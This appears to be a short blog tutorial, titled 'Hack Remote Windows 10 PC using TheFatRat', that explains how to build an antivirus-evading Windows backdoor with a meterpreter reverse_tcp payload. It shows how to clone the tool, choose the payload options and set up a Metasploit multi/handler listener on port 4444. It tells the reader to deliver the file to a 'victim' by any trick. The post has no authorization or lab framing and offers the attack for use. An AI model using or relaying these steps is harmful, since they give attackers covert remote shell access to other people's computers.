Hacking Tools, Kali Linux, Penetration Testing

Hack Remote Windows 10 PCusing TheFatRat

TheFatRat is an easy tool for generate backdoor with msfvenom ( part of metasploit framework ) and program compiles a C program with a meterpreter reverse_tcp payload In it that can then be executed on a windows host Program to create a C program after it is compiled that will bypass most AV

First, to install thefatrat we type the following command on terminal:

git clone https://github.com/Screetsec/TheFatRat.git

Once the cloning is done, go to the installed directory of fatrat and open it in terminal and type the following command to start it:It will show you many options now select option 1 which is to CREATE BACKDOOR WITH MSFVENOM.

Now it will give a list of options to choose the format of the backdoor which you have to choose as per your requirements and need. To create a windows executable as a backdoor choose option 2.

Now enter the LHOST IP i.e. your systemIP and LPORT i.e. the port you want the reverse connection on your i.e. attacker system. In my case the LHOST is and LPORT is 4444.

And then exit the script by selecting y when asked

Now the generated backdoor will be present in the output directory.

Now use any trick up your sleeve to transport the backdoor to the victim and set up reverse handler onmetasploit with the following commands on the msf terminal-

use exploit/multi/handler

set payload windows/meterpreter/reverse_tcp

set lhost (the attacker system IP)

set lport 4444


Now as soon as the backdoor is executed on the victim’smachine you will get a meterpreter shell as you can see in my case.

For More Details Visit here

Author: Himanshu Gupta is a Information Security Researcher | Technical writer.You can follow him on LinkedIn .